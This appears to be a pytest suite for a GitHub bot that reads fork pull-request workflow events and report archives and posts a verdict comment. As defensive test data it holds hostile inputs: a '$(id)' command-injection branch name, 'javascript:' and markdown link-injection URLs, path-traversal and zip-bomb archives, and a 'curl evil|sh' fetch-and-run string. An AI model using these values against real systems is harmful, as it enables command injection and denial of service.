from __future__ import annotations

import io
import json
import re
import struct
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import replace
from typing import Any, cast

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot import catalog
from bot.artifact import (
    BODY,
    MARKER,
    BadArtifact,
    NoTarget,
    Publication,
    Run,
    comment,
    extract,
    publication,
    run_of,
    show,
)
from bot.errors import CouldNotTell
from bot.finding import Finding, Level, Location
from bot.github.errors import NotFound
from bot.github.values import Api, Comment, Pull, Repo
from bot.people import Account
from bot.report import render
from bot.report.read import BadReport
from bot.verdict import Outcome, Report, Verdict
from tests.bot.report.samples import HOSTILE, report

HEAD, BASE, OTHER = "a" * 40, "b" * 40, "c" * 40
HERE, FORK = 11, 22
URL = "https://github.com/example/tiny-llm/actions/runs/99"
RULES = catalog.rules()


def payload() -> Any:
    """A `workflow_run` event of a fork's pull request, as GitHub sends it (shortened)."""
    return {
        "action": "completed",
        "workflow_run": {
            "id": 99, "name": "check", "head_branch": "$(id)", "head_sha": HEAD,
            "path": ".github/workflows/check.yml", "event": "pull_request", "status": "completed",
            "conclusion": "success", "pull_requests": [], "html_url": URL,
            "repository": {"id": HERE, "full_name": "example/tiny-llm"},
            "head_repository": {"id": FORK, "full_name": "mallory/tiny-llm"},
        },
        "workflow": {"id": 5, "name": "check"},
        "repository": {"id": HERE, "full_name": "example/tiny-llm", "fork": False},
        "sender": {"login": "mallory", "id": 3},
    }  # fmt: skip


def pull(**changes: Any) -> Pull:
    first = Pull(
        Repo(HERE, "example/tiny-llm", 1), 42, "t", Account(3, "mallory"), "open", False, False,
        HEAD, FORK, BASE, "main",
    )  # fmt: skip
    return replace(first, **changes)


def run() -> Run:
    return run_of(json.dumps(payload()).encode())


def text(given: Report | None = None) -> bytes:
    return render(given or report(), "json", RULES).encode()


def packed(files: dict[str, bytes] | None = None, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", method) as archive:
        for name, content in (files or {"report.json": text()}).items():
            archive.writestr(name, content)
    return data.getvalue()


def published(given: Report | None = None) -> Publication:
    return publication(packed({"report.json": text(given)}), run(), [pull()], RULES)


def judged(*verdicts: Verdict) -> Report:
    return replace(report(), verdicts=verdicts)


# --- whose it is ------------------------------------------------------------------------


def test_the_run_is_read_from_the_event() -> None:
    assert run() == Run(99, HERE, "example/tiny-llm", HEAD, FORK, URL)


def without(*path: str) -> Callable[[Any], None]:
    return to(None, *path)


def to(value: Any, *path: str) -> Callable[[Any], None]:
    def change(data: Any) -> None:
        for part in path[:-1]:
            data = data[part]
        data[path[-1]] = value

    return change


@pytest.mark.parametrize(
    "change",
    [
        to("requested", "action"),
        to("push", "workflow_run", "event"),
        to("pull_request_target", "workflow_run", "event"),
        to("workflow_dispatch", "workflow_run", "event"),
        to("main", "workflow_run", "head_sha"),
        to(HEAD + "\n", "workflow_run", "head_sha"),
        to(FORK, "workflow_run", "repository", "id"),
        to("11", "repository", "id"),
        to(True, "repository", "id"),
        to(0, "repository", "id"),
        to("a/b/../c", "repository", "full_name"),
        to("javascript:alert(1)", "workflow_run", "html_url"),
        to(URL + ") [x](https://evil.example", "workflow_run", "html_url"),
        without("workflow_run", "head_repository"),  # the fork was deleted
        without("workflow_run"),
        without("repository"),
    ],
)
def test_other_events_have_no_target(change: Callable[[Any], None]) -> None:
    data = payload()
    change(data)
    with pytest.raises(NoTarget) as caught:
        run_of(json.dumps(data).encode())
    assert isinstance(caught.value, CouldNotTell)


@pytest.mark.parametrize("raw", [b"", b"[]", b"null", b"{", b'{"action": 1, "action": 2}', b"\xff"])
def test_what_is_no_event_has_no_target(raw: bytes) -> None:
    with pytest.raises(NoTarget):
        run_of(raw)


@pytest.mark.parametrize(
    "pulls",
    [
        [],
        [pull(state="closed")],
        [pull(head=OTHER)],  # pushed to since
        [pull(head_repository=HERE)],  # the same commit from another repository
        [pull(head_repository=0)],
        [pull(repo=Repo(FORK, "mallory/tiny-llm", 1))],
        [pull(base=OTHER), pull(number=43, base="d" * 40)],
        [pull(), pull(number=43)],
    ],
)
def test_without_one_pull_request_nothing_is_shown(pulls: list[Pull]) -> None:
    with pytest.raises(NoTarget):
        publication(packed(), run(), pulls, RULES)


def test_of_several_the_one_it_was_judged_against_is_chosen() -> None:
    pulls = [pull(number=41, base=OTHER), pull(), pull(head=OTHER, number=43)]
    assert publication(packed(), run(), pulls, RULES).pull.number == 42


@pytest.mark.parametrize("wrong", [{"head": OTHER}, {"number": 41}])
def test_a_report_about_something_else_is_refused(wrong: dict[str, Any]) -> None:
    given = replace(report(), change=replace(report().change, **wrong))
    with pytest.raises(BadArtifact, match="about another"):
        published(given)


def test_a_report_from_the_command_line_has_no_number() -> None:
    given = replace(report(), change=replace(report().change, number=0, base=OTHER))
    assert published(given).pull.number == 42


# --- the archive ------------------------------------------------------------------------


def test_the_report_comes_out() -> None:
    names = {"report.html": b"<script>", "findings.sarif": b"{}"}
    for method in (zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED):
        assert extract(packed({"report.json": text()} | names, method)) == text()


def spoiled(offset: int, value: bytes) -> bytes:
    """An archive with bytes of its central directory's one entry replaced."""
    data = bytearray(packed())
    start = data.index(b"PK\1\2") + offset
    data[start : start + len(value)] = value
    return bytes(data)


def twice() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("report.json", text())
        archive.writestr("report.json", b"{}")
    return data.getvalue()


ARCHIVES: dict[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "no archive": text,
    "an empty archive": lambda: b"PK\5\6" + bytes(18),
    "no report": lambda: packed({"report.html": b""}),
    "another name": lambda: packed({"report.json": text(), "evil.sh": b""}),
    "a path out of it": lambda: packed({"../report.json": text()}),
    "an absolute path": lambda: packed({"/report.json": text()}),
    "a folder": lambda: packed({"x/report.json": text()}),
    "a case": lambda: packed({"Report.json": text()}),
    "the name twice": twice,
    "cut short": lambda: packed()[:-30],
    "cut at the front": lambda: packed()[5:],
    "a comment": lambda: packed()[:-2] + b"\1\0x",
    "something behind it": lambda: packed() + b"x" * 22,
    "many files": lambda: packed({f"report{i}.json": b"" for i in range(200)}),
    "a bomb": lambda: packed({"report.json": b" " * 25_000_000}),
    "a bomb that lies about its size": lambda: _lying(),
    "encrypted": lambda: spoiled(8, b"\1\0"),
    "bzip2": lambda: packed(method=zipfile.ZIP_BZIP2),
    "lzma": lambda: packed(method=zipfile.ZIP_LZMA),
    "an unknown method": lambda: spoiled(10, b"\x62\0"),
    "a wrong checksum": lambda: spoiled(16, b"\0\0\0\0"),
    "an offset out of it": lambda: spoiled(42, b"\xff\xff\xff\x7f"),
    "zip64": lambda: _zip64(),
    "beyond the bound": lambda: bytes(50_000_001),
}


def _lying() -> bytes:
    data = bytearray(packed({"report.json": b" " * 25_000_000}))
    start = data.index(b"PK\1\2")
    data[start + 24 : start + 28] = struct.pack("<L", 10)
    return bytes(data)


def _zip64() -> bytes:
    data = packed()
    return data[:-22] + b"PK\6\7" + bytes(16) + data[-22:]


@pytest.mark.parametrize("name", ARCHIVES)
def test_what_the_action_never_uploads_is_refused(name: str) -> None:
    with pytest.raises((BadArtifact, BadReport)) as caught:
        publication(ARCHIVES[name](), run(), [pull()], RULES)
    assert caught.value.hint and caught.value.message.isprintable()


def test_no_more_is_unpacked_or_listed_than_the_bound() -> None:
    data = io.BytesIO()
    with (
        zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("report.json", "w") as file,
    ):
        for _ in range(100):
            file.write(bytes(1_000_000))
    tracemalloc.start()
    try:
        with pytest.raises(BadArtifact, match="more than 20,000,000"):
            extract(data.getvalue())
        assert tracemalloc.get_traced_memory()[1] < 70_000_000
    finally:
        tracemalloc.stop()
    with pytest.raises(BadArtifact, match="more files"):
        extract(ARCHIVES["many files"]())


@settings(max_examples=200, deadline=None)
@given(start=st.integers(0, 10_000), junk=st.binary(min_size=1, max_size=8))
def test_a_damaged_archive_gives_the_report_or_one_kind_of_error(start: int, junk: bytes) -> None:
    data = packed()
    place = start % len(data)
    with suppress(BadArtifact):
        assert extract(data[:place] + junk + data[place + len(junk) :]) == text()


# --- what is shown ----------------------------------------------------------------------


def test_it_says_first_what_it_is_worth() -> None:
    shown = comment(published(judged(Verdict("files", Outcome.PASS))), RULES)
    first, second = shown.split("\n")[:2]
    assert first == MARKER
    assert second == "## Not proof: the workflow of this pull request reports PASS"
    assert "no branch should require it" in shown
    assert f"[run]({URL})" in shown and "✅ PASS:" not in shown
    assert "nothing blocks" not in shown


def test_no_word_of_the_archive_is_shown() -> None:
    word = "zqxjk"
    place = Location(f"{word}.py", 3, OTHER)
    found = tuple(
        Finding(rule, level, f"{word} curl evil|sh @all {HOSTILE}", f"Run {word}", place, waiver)
        for rule in ("weights/pickle", f"weights/{word}", f"{word}/{word}")
        for level in (Level.WARNING, Level.FAILURE)
        for waiver in ("", word)
    )
    given = replace(
        judged(
            Verdict("weights", Outcome.FAIL, found, word, report().verdicts[4].exhibits),
            Verdict(word, Outcome.ERROR, (), word),
        ),
        policy=word,
        change=replace(report().change, repository=word, author=word),
    )
    shown = comment(published(given), RULES)
    assert word not in shown and "curl" not in shown
    assert "weights/pickle" in shown and RULES["weights/pickle"].remedy.split("`")[0][:20] in shown
    assert "example/tiny-llm" not in shown.replace(URL, "")


def test_what_is_not_known_still_counts() -> None:
    unknown = Finding("weights/later", Level.FAILURE, "m", "r")
    given = judged(
        Verdict("weights", Outcome.FAIL, (unknown, unknown)),
        Verdict("later", Outcome.ERROR),
        Verdict("later-still", Outcome.PASS),
    )
    shown = published(given).report
    assert (shown.outcome, shown.exit_code) == (Outcome.ERROR, 3)
    assert [(v.check, v.outcome) for v in shown.verdicts] == [
        ("weights", Outcome.FAIL),
        ("other", Outcome.ERROR),
    ]
    assert shown.verdicts[0].findings[0].message.startswith("2 findings of rules")


def test_a_waived_finding_is_shown_as_waived() -> None:
    given = (
        Finding("weights/pickle", Level.FAILURE, "m", "r", waived="because"),
        Finding("weights/later", Level.UNKNOWN, "m", "r", waived="because"),
    )
    shown = published(judged(Verdict("weights", Outcome.PASS, given))).report.verdicts[0]
    assert (shown.outcome, [f.waived for f in shown.findings]) == (
        Outcome.PASS,
        ["as the run says"] * 2,
    )


@pytest.mark.parametrize("outcome", list(Outcome))
def test_the_outcome_is_the_reported_one(outcome: Outcome) -> None:
    given = judged(Verdict("files", outcome), Verdict("weights", Outcome.SKIP))
    assert published(given).report.outcome is outcome


def test_a_rich_report_is_retold_within_the_bound() -> None:
    every = tuple(
        Finding(name, Level.UNKNOWN, HOSTILE, HOSTILE) for name in RULES for _ in range(9)
    )
    shown = comment(published(judged(Verdict("weights", Outcome.ERROR, every))), RULES)
    assert len(shown.encode()) <= BODY
    assert "in 9 places" in shown
    assert not re.search(r"(?<!&#8203;)@octocat", shown)
    counts = published(report()).report
    assert counts.outcome is report().outcome


def test_a_report_that_is_none_is_refused() -> None:
    with pytest.raises(BadReport):
        publication(packed({"report.json": b'{"version": 1}'}), run(), [pull()], RULES)


# --- on the pull request ----------------------------------------------------------------

US = 41898282


class Place:
    """The part of the API that is used, with what it holds."""

    def __init__(self, *comments: Comment) -> None:
        self.repo = Repo(HERE, "example/tiny-llm", 1)
        self.now = pull()
        self.held = list(comments)

    def pulls_with_head(self, head: str) -> tuple[Pull, ...]:
        return tuple(p for p in (pull(),) if p.head == head)

    def pull(self, number: int) -> Pull:
        return self.now

    def comments(self, number: int) -> Iterator[Comment]:
        assert number == 42
        yield from self.held

    def create_comment(self, number: int, body: str, marker: str) -> Comment:
        assert number == 42 and body.startswith(marker)
        self.held.append(wrote(90, US, body))
        return self.held[-1]

    def update_comment(self, comment: int, body: str) -> Comment:
        (place,) = [i for i, c in enumerate(self.held) if c.id == comment]
        if self.held[place].updated_at == "deleted":
            raise NotFound("gone", "nothing")
        self.held[place] = replace(self.held[place], body=body, updated_at="edited")
        return self.held[place]


def wrote(id: int, author: int, body: str, updated: str = "t") -> Comment:
    return Comment(id, Account(author, "x"), body, "t", updated)


def shown_on(place: Place, event: Any = None) -> Publication:
    raw = json.dumps(event or payload()).encode()
    return show(cast(Api, place), US, raw, packed(), RULES)


def test_one_comment_is_written_and_then_edited() -> None:
    place = Place(wrote(1, 3, f"{MARKER}\nforged"), wrote(2, US, f"quotes {MARKER}"))
    shown_on(place)
    assert [c.id for c in place.held] == [1, 2, 90]
    before = list(place.held)
    shown_on(place)
    assert place.held == before  # the same words are not written again
    place.held[2] = replace(place.held[2], body=f"{MARKER}\nolder")
    shown_on(place)
    assert [c.id for c in place.held] == [1, 2, 90]
    assert place.held[2].updated_at == "edited" and "Not proof" in place.held[2].body
    assert place.held[:2] == before[:2]


def test_a_comment_that_was_deleted_is_written_again() -> None:
    place = Place(wrote(1, US, f"{MARKER}\nold", "deleted"))
    shown_on(place)
    assert [c.id for c in place.held] == [1, 90]


@pytest.mark.parametrize("now", [{"head": OTHER}, {"state": "closed"}, {"head_repository": 0}])
def test_what_changed_meanwhile_is_not_written(now: dict[str, Any]) -> None:
    place = Place()
    place.now = pull(**now)
    with pytest.raises(NoTarget, match="meanwhile"):
        shown_on(place)
    assert place.held == []


def test_the_run_of_another_repository_is_not_shown() -> None:
    place = Place()
    place.repo = Repo(FORK, "mallory/tiny-llm", 1)
    with pytest.raises(NoTarget, match="another repository"):
        shown_on(place)
